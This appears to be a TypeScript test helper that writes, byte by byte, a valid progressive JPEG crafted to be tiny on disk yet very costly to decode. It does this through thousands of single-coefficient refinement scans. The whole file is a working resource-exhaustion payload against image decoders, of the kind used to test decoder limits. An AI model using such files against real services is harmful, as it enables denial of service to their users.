/**
 * A valid progressive JPEG that is small on disk and costly to decode: every coefficient of every
 * component is sent in its own spectral band, each refined bit by bit (successive approximation
 * from Al = 13 down to 0), so the file holds 1 + components × 63 × 14 scans. Every scan of a 7000²
 * image is a few dozen bytes of end-of-band runs, yet a decoder visits all 765,625 blocks of the
 * component in each of them, and keeps every coefficient of the image in memory meanwhile.
 * Written byte by byte: no encoder writes such a scan script by itself.
 */

export interface HostileJpegOptions {
  width: number;
  height: number;
  /** 1 (grey) or 3 (YCbCr, no subsampling). */
  components?: 1 | 3;
  /** Successive-approximation steps per coefficient, 0–13: each adds one scan per coefficient. */
  refinements?: number;
  /** Coefficients sent (1–63), each in its own band. */
  coefficients?: number;
}

export function hostileProgressiveJpeg(options: HostileJpegOptions): Buffer {
  const { width, height } = options;
  const components = options.components ?? 3;
  const refinements = options.refinements ?? 13;
  const coefficients = options.coefficients ?? 63;
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const parts: Buffer[] = [Buffer.from([0xff, 0xd8])];

  parts.push(segment(0xdb, [0x00, ...new Array<number>(64).fill(1)])); // one quantisation table of 1s
  const frame = [8, height >> 8, height & 0xff, width >> 8, width & 0xff, components];
  for (let c = 1; c <= components; c++) frame.push(c, 0x11, 0);
  parts.push(segment(0xc2, frame)); // SOF2: progressive, Huffman
  // DC: one code ('0') for "difference 0". AC: '00' for EOB14 (a run of up to 32,767 blocks), '01' and '10' for shorter runs.
  const remainder = blocks % 32767;
  const shortRun = remainder === 0 ? 0 : Math.floor(Math.log2(remainder));
  parts.push(segment(0xc4, [0x00, 1, ...new Array<number>(15).fill(0), 0x00]));
  parts.push(segment(0xc4, [0x10, 0, 3, ...new Array<number>(14).fill(0), 0xe0, shortRun << 4, 0x00]));

  // DC first scan, all components interleaved: one '0' bit per block.
  const dc = new BitWriter();
  for (let i = 0; i < blocks * components; i++) dc.write(0, 1);
  parts.push(scanHeader(Array.from({ length: components }, (_, i) => i + 1), 0, 0, 0, 0), dc.end());

  // The same band of end-of-band runs serves every AC scan, first or refining (no coefficient is ever non-zero).
  const band = new BitWriter();
  for (let left = blocks; left > 0; ) {
    const run = Math.min(left, 32767);
    const category = Math.floor(Math.log2(run));
    band.write(category === 14 ? 0b00 : 0b01, 2);
    band.write(run - (1 << category), category);
    left -= run;
  }
  const bandBytes = band.end();
  for (let c = 1; c <= components; c++) {
    for (let k = 1; k <= coefficients; k++) {
      parts.push(scanHeader([c], k, k, 0, refinements), bandBytes);
      for (let a = refinements; a >= 1; a--) parts.push(scanHeader([c], k, k, a, a - 1), bandBytes);
    }
  }
  parts.push(Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
}

function segment(marker: number, body: number[]): Buffer {
  const length = body.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...body]);
}

function scanHeader(components: number[], start: number, end: number, high: number, low: number): Buffer {
  return segment(0xda, [components.length, ...components.flatMap((c) => [c, 0x00]), start, end, (high << 4) | low]);
}

/** Entropy-coded bits, most significant first, with 0xFF bytes stuffed and the last byte padded with 1s. */
class BitWriter {
  private readonly bytes: number[] = [];
  private current = 0;
  private count = 0;

  write(value: number, bits: number): void {
    for (let bit = bits - 1; bit >= 0; bit--) {
      this.current = (this.current << 1) | ((value >> bit) & 1);
      if (++this.count === 8) this.flush();
    }
  }

  end(): Buffer {
    if (this.count > 0) {
      this.current = (this.current << (8 - this.count)) | ((1 << (8 - this.count)) - 1);
      this.flush();
    }
    return Buffer.from(this.bytes);
  }

  private flush(): void {
    this.bytes.push(this.current);
    if (this.current === 0xff) this.bytes.push(0x00);
    this.current = 0;
    this.count = 0;
  }
}
